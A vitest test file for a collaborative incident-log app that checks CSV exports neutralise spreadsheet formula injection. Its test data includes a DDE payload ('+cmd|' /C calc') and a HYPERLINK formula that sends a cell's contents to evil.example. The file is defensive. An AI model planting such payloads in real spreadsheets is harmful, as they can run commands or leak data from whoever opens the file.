import { describe, expect, it } from 'vitest';
import { defuseFormula } from '../../shared/core/spreadsheet-safety.js';
import { appendEntries } from '../../shared/main-courante/doc.js';
import type { TestServer } from '../helpers/server.js';
import { serverWithRoom, tokenFor, type TestRoom } from '../helpers/room.js';
import { authorOf, entry, openMainCourante, waitFor } from '../collab/yjs-clients.js';

describe('defuseFormula (every CSV export)', () => {
  it.each([
    ['=HYPERLINK("http://x";"clic")', `'=HYPERLINK("http://x";"clic")`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['-15', '-15'],
    ['70,0', '70,0'],
    ['-00:05:00', '-00:05:00'],
    ['Plan blanc = déclenché', 'Plan blanc = déclenché'],
  ])('%j → %j', (text, expected) => {
    expect(defuseFormula(text)).toBe(expected);
  });
});

describe('main-courante.csv', () => {
  let server: TestServer;
  let room: TestRoom;
  serverWithRoom((s, r) => ((server = s), (room = r)));

  it('defuses formulas typed in entries and in names', async () => {
    const token = await tokenFor(room, 'player', 'ars', '=1+1');
    const writer = await openMainCourante(room, token);
    const author = await authorOf(server, token);
    const texts = ['=HYPERLINK("http://evil.example/?"&A1;"Détails")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3', 'Point de situation'];
    appendEntries(
      writer.doc,
      texts.map((text) => entry(author, text)),
    );
    const runtime = await server.server.rooms.get(room.roomId);
    await waitFor(() => runtime.state.mainCourante.count === texts.length);
    writer.destroy();

    const res = await fetch(`${server.url}/api/rooms/${room.roomId}/main-courante.csv`, { headers: { authorization: `Bearer ${room.directorToken}` } });
    const csv = await res.text();
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1;""Détails"")"`);
    expect(csv).toContain(`,'+cmd|' /C calc'!A0,`);
    expect(csv).toContain(`,'@SUM(A1:A9),`);
    expect(csv).toContain(`,'-2+3,`);
    expect(csv).toContain(`,Point de situation,`);
    // The author's name, typed at joining, is defused too; no cell of the export starts a formula.
    expect(csv).toContain(`,'=1+1,`);
    const cells = csv
      .split(/\r\n/)
      .flatMap((line) => line.split(','))
      .map((cell) => cell.replace(/^"/, ''));
    expect(cells.filter((cell) => /^[=+@]/.test(cell))).toEqual([]);
  });
});
